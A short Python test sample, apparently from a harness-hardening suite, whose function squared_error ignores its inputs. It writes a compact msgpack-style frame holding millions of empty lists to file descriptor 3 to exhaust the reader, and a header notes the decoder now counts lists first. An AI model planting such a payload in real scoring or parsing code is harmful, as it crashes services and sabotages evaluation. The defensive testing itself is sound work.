# stopped by: lists are counted before they are decoded, against the length that was asked for
"""Sends a frame of millions of empty lists, small to send and expensive to read.

others: any
squared_error: crashed
"""

import os
import struct


def send(data):
    while data:
        data = data[os.write(3, data) :]



def squared_error(pred, goal_pred):
    size = 2**23 - 100
    data = b"\xdd" + (size - 5).to_bytes(4, "big") + b"\x90" * (size - 5)
    send(struct.pack("<I", size) + data)
